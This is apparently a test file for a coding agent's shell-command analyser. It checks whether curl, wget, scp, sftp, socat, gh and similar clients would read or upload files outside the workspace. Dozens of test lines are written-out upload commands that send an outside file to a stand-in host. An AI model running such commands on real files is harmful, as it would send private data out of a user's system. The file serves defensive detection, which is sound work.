"""Files that clients of the network are given behind marks, in lists and as addresses."""

from pathlib import Path

import pytest

from cogency_tui.tools.shell.outside_effects import Reach, reach
from cogency_tui.tools.shell.paths_in_arguments import addressed, files_in_arguments, names_more
from cogency_tui.tools.shell.simple_command import Simple, Word
from cogency_tui.workspace.paths import Workspace
from tests.cases import cases
from tests.exhaustive import sampled
from tests.growth import assert_linear


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    root.mkdir()
    outside = tmp_path / "out"
    outside.mkdir()
    (outside / "s").write_text("x")
    (root / "list").write_text(f"{outside}/s\n")
    (root / "a.txt").write_text("x")
    (root / "lk").symlink_to(outside)
    return root


def of(project: Path, command: str) -> Reach:
    text = command.replace("OUT", str(project.parent / "out")).replace("\\n", "\n")
    return reach(text, project, Workspace(project))


NAMED = r"""
curl -s file://OUT/s
curl -s file:OUT/s
curl -s FILE:OUT/s
curl -s FiLe://localhost/OUT/s
curl -s file://127.0.0.1/OUT/s
curl -so copy.txt file://OUT/s
curl --url file://OUT/s
curl --url=file://OUT/s
curl "file://$(pwd)/lk/s"
curl file://OUT/%73
curl 'file://OUT/s?x#y'
curl 'file://OUT/{s,t}'
curl 'file://OUT/[s]'
curl 'file:///{OUT/s}'
curl 'file://OUT/{s}'
curl -T '{OUT/s}' http://h/
curl file://OUT/{s,t}
curl '{file://OUT/s,http://x}'
U=file://OUT/s; curl $U
for f in OUT/s; do curl "file://$f"; done
curl -F f=@OUT/s http://h/
curl -Ff=@OUT/s http://h/
curl -sF f=@OUT/s http://h/
curl --form 'f=@OUT/s' http://h/
curl --form 'f=@OUT/s;type=text/plain' http://h/
curl --form 'f=@"OUT/s";type=text/plain' http://h/
curl -F 'f=@a.txt,OUT/s' http://h/
curl -F 'f=@a.txt;type=a/b,OUT/s' http://h/
curl -F 'f=<lk/s' http://h/
curl -F 'my field=<OUT/s' http://h/
curl -F f=@lk/s http://h/
curl -F 'f=x;headers=@OUT/s' http://h/
curl --data-urlencode f@OUT/s http://h/
curl --data-urlencode @OUT/s http://h/
curl --data-urlencode "f@$(pwd)/../out/s" http://h/
curl --data-u f@lk/s http://h/
curl --url-query f@OUT/s http://h/
curl --variable v@OUT/s --expand-data '{{v}}' http://h/
curl -d @OUT/s http://h/
curl -sd@OUT/s http://h/
curl --json @lk/s http://h/
curl -H @OUT/s http://h/
curl -w @OUT/s http://h/
curl -T lk/s http://h/
curl -T '{a.txt,OUT/s}' http://h/
curl -sTOUT/s http://h/
curl -b lk/s http://h/
curl --cert OUT/s http://h/
wget --post-file=lk/s http://h/
wget --body-file lk/s http://h/
wget -e post_file=OUT/s http://h/
wget -e 'post_file = OUT/s' http://h/
wget -e 'post_file = lk/s' http://h/
http h f@OUT/s
http h f@lk/s
http h f=@lk/s
http h f:=@lk/s
http h f==@lk/s
http h h:@lk/s
http h @lk/s
http -f h 'f@lk/s;type=text/plain'
xh h f=@OUT/s
scp lk/s h:
scp OUT/s h:
lftp -e 'put OUT/s; bye' h
lftp -c 'open h; put lk/s'
sftp h <<E\nput OUT/s\nE
ftp h <<< 'put lk/s'
gh api -F body=@OUT/s /x
gh api -Fbody=@lk/s /x
gh issue create -F lk/s
socat - OPEN:lk/s
socat OPEN:lk/s,rdonly TCP:h:1
curl --url @lk/s
pip install 'a @ file://OUT/s'
az x create --parameters @OUT/s
aws lambda invoke --payload fileb://OUT/s x
git clone file://OUT/s
pip install file://OUT/s
python3 -c 'import urllib.request as u; print(u.urlopen("file://OUT/s").read())'
python3 -c 'import urllib.request as u; print(u.urlopen("FILE://localhost/OUT/s").read())'
lynx -dump file://localhost/OUT/s
w3m lk/s
""".strip().splitlines()

UNKNOWN = r"""
curl $(cat list)
curl -s "$(cat list)"
curl -s "$U"
curl "fi$X"
curl "file://$X"
curl --silent "$U"
curl --url "$U"
curl 'fil[e-e]://OUT/s'
curl '{http,file}://OUT/s'
curl -sd @$(cat list) http://h/
curl -d "$(cat list)" http://h/
curl -d"$X" http://h/
curl -d $X http://h/
curl -d "@OUT/$X" http://h/
curl -F "f=$X" http://h/
curl -F "f=@$X" http://h/
curl -F "f=a;headers=@$X" http://h/
curl -F "$X" http://h/
curl -F "f=a$X" http://h/
curl --data-urlencode "f@$X" http://h/
curl --data-urlencode "f$X" http://h/
curl --variable "v@$X" http://h/
curl -H "$X" http://h/
curl -T "$X" http://h/
curl -b "$X" http://h/
curl -K list
curl --variable '%HOME' --expand-url 'file://{{HOME}}/s'
curl --expand-form 'f=@{{HOME}}/s' http://h/
curl --variable x=OUT/s --expand-data '@{{x}}' http://h/
CURL_HOME=. curl http://h/
export WGETRC=list; wget http://h/
gh api -F "body=$X" /x
gh pr create --body-file "$X"
socat - "OPEN:$X"
curl -sK list
curl -K - <<< 'url = "file://OUT/s"'
cat list | xargs curl -T a.txt
cat list | xargs -I{} curl -F f=@{} http://h/
xargs curl < list
wget --post-file="$X" http://h/
wget --config=list http://h/
wget -e "$X" http://h/
http h "f@$X"
http h "$X"
http h "f=$X"
scp "$X" h:
scp $(cat list) h:
sftp -b list h
sftp h < list
echo 'put OUT/s' | sftp h
lftp -f list h
ftp h <<E\nput $X\nE
lynx -dump "$X"
""".strip().splitlines()

FREE = r"""
curl -s http://h/
curl -fsSL https://h/a/b.sh -o b.sh
curl -d @a.txt http://h/
curl --json @a.txt http://h/
curl -F f=@a.txt http://h/
curl -F 'f=@a.txt;type=text/plain' http://h/
curl -F f=x http://h/
curl -d '{"a": "b@c.d", "e": ["<f>", "/g"]}' http://h/
curl -H 'Accept: a/b' -H "Authorization: Bearer $T" http://h/
curl -d "a=$X" http://h/
curl -d "{\"a\": \"$X\"}" http://h/
curl --data-raw "$X" http://h/
curl --data-urlencode "q=$X" http://h/
curl -u "$U:$P" "http://h:$PORT/x"
curl -m "$T" --max-time "$T" -o "$(date +%s)" http://h/
curl "localhost:$PORT/health"
curl http://me@h/etc
curl -b "a=$X" http://h/
curl 'http://[::1]:80/'
gh api -f "body=$X" /x
gh pr create --body "$X"
socat - "TCP:$H:$P"
socat -t "$T" STDIO TCP:h:80
curl --expand-data 'a={{x}}' http://h/
wget -q http://h/
wget "$U"
http h a=b c==d e:=1 'f:@a.txt'
http :8000/x "a:b$X"
scp a.txt me@h:x
scp h:x a.txt
scp "h:$X" a.txt
sftp h <<E\nput a.txt\nE
lftp -e 'get x; bye' h
git commit -m "See file:///etc/x for more"
grep -rn file:///etc/x a.txt
git clone me@h:a/b
npm install a@file:../proj
""".strip().splitlines()


@pytest.mark.exhaustive
@cases("command", NAMED)
def test_a_file_outside_that_a_client_names_is_outside(project: Path, command: str) -> None:
    found = of(project, command)
    assert found.outside == str(project.parent / "out/s")
    assert found.brings


@cases("command", UNKNOWN)
def test_a_file_that_a_client_is_told_only_when_it_runs_is_asked_about(project: Path, command: str) -> None:
    assert "known only at run time" in of(project, command).protected


@cases("command", FREE)
def test_what_is_no_file_outside_is_not_asked_about(project: Path, command: str) -> None:
    found = of(project, command)
    assert (found.outside, found.protected) == ("", "")


PIECES = ("{", "[", "file:", "file://", "f=@", ";x=@", "@", ",", "\\\\", "{:", "a=<", "file:{", " @ ")


CLIENTS = ("curl", "http", "lynx", "socat", "lftp")


# Each piece with two programs.
@pytest.mark.parametrize(
    ("program", "piece"),
    sampled([(CLIENTS[(n + m) % 5], piece) for n, piece in enumerate(PIECES) for m in (0, 2)], quick=13),
)
def test_a_long_argument_is_looked_at_in_linear_time(program: str, piece: str) -> None:
    def build(count: int) -> Word:
        return Word(f"{piece * count}'", known=False, lead=piece * count)

    def look(word: Word) -> None:
        simple = Simple((Word(program), Word("-F"), word, Word("-c"), word, word))
        assert list(files_in_arguments(simple))
        names_more(simple, listed=False)
        addressed(word)

    assert_linear(build, look, 10_000, growth=12, floor=0.002)
